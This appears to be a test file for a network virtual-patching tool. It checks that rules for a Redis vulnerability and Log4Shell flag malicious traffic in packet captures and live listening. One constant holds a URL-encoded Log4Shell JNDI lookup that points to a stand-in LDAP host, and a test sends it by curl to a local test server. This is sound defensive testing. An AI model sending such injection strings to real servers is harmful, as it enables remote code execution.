import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { TryResult } from '../../../src/cli/patches/tried-patches.ts';
import { readTranscript } from '../../../src/patches/transcript.ts';
import { vpatch } from '../../support/command-line.ts';
import { Testbed, until, whyNoTestbed } from '../../support/netns.ts';
import { writePcap } from '../../support/packets.ts';
import { conversation } from '../../support/play.ts';
import { PROGRAM } from '../../support/vpatch-process.ts';
import { HTTP_PORT, WebServer } from '../../support/web-server.ts';

const LOOKUP = '/?q=%24%7Bjndi:ldap://192.0.2.66/a%7D';
let folder: string;
let capture: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'vpatch-try-'));
  capture = join(folder, 'traffic.pcap');
  const { turns, port } = readTranscript('fixtures/patches/cve-2022-0543/attack-eval.md');
  const harmless = readTranscript('fixtures/patches/cve-2022-0543/benign-script-with-a-key.md');
  writePcap(capture, [
    ...conversation(turns, { serverPort: port, clientPort: 40_001 }),
    ...conversation(turns, { serverPort: port, clientPort: 40_002 }),
    ...conversation(harmless.turns, { serverPort: port, clientPort: 40_003 }),
  ]);
});
afterAll(() => rmSync(folder, { recursive: true }));

const tried = async (...args: readonly string[]): Promise<TryResult> =>
  JSON.parse((await vpatch('patches', 'try', ...args, '--json')).stdout) as TryResult;

describe('patches try --pcap', () => {
  test('counts by patch what would have been blocked, and shows some of it', async () => {
    const { exitCode, stdout, stderr } = await vpatch('patches', 'try', '--pcap', capture);
    expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: '' });
    expect(stdout).toMatch(/^cve-2022-0543: .*\n {2}would have blocked 2 connections of 1 source\n/m);
    expect(stdout).toMatch(/^ {2}2023-\S+ +192\.0\.2\.1 -> 192\.0\.2\.2 6379 +9000170 VPATCH Redis/m);
    expect(stdout).toMatch(/ packets in 3 flows, HOME_NET any\n1 patch would have blocked something, \d+ nothing\n$/);
  });

  test('tries only the patches that are named', async () => {
    const { patches } = await tried('cve-2021-44228', 'cve-2022-0543', '--pcap', capture);
    expect(patches.map(({ id, connections }) => `${id} ${connections}`)).toEqual([
      'cve-2022-0543 2',
      'cve-2021-44228 0',
    ]);
  });

  test('protects whom HOME_NET names', async () => {
    const { patches } = await tried('cve-2022-0543', '--pcap', capture, '--set', 'HOME_NET=[10.0.0.0/8]');
    expect(patches.map(({ connections }) => connections)).toEqual([0]);
  });

  test.each([
    [[], 'give the traffic: --pcap FILE, or --live DURATION'],
    [['--pcap', 'a', '--live', '1h'], 'give the traffic: --pcap FILE, or --live DURATION'],
    [['--pcap', '/nowhere.pcap'], 'there is no such file'],
    [['--live', '30d'], 'up to 7d'],
  ])('%j is wrong use', async (args, message) => {
    const { exitCode, stderr } = await vpatch('patches', 'try', ...args);
    expect(exitCode).toBe(2);
    expect(stderr).toContain(message);
  });
});

const reason = whyNoTestbed();

describe.skipIf(reason !== null)('patches try --live', () => {
  test('listens for as long as it is told, and touches nothing', async () => {
    const testbed = new Testbed();
    const server = await WebServer.start(testbed);
    try {
      const child = testbed.start('server', process.execPath, [
        ...[PROGRAM, 'patches', 'try', '--live', '6s', '-i', testbed.interfaces.server, '--json'],
      ]);
      let log = '';
      let output = '';
      child.stderr?.on('data', (chunk) => {
        log += String(chunk);
      });
      child.stdout?.on('data', (chunk) => {
        output += String(chunk);
      });
      const exited = new Promise<number | null>((resolve) => child.once('close', resolve));
      await until('it listens', () => log.includes('listening on'));
      const url = `http://${testbed.addresses.server[4]}:${HTTP_PORT}${LOOKUP}`;
      expect((await testbed.finish('client', 'curl', ['-s', '-g', '-m', '5', url])).status).toBe(0);

      expect(await exited).toBe(0);
      const { patches } = JSON.parse(output) as TryResult;
      expect(patches[0]).toMatchObject({ id: 'cve-2021-44228', connections: 1, sources: 1 });
      expect(patches[0]!.examples[0]!.what).toContain('jndi');
    } finally {
      server.close();
      testbed.close();
    }
  });
});
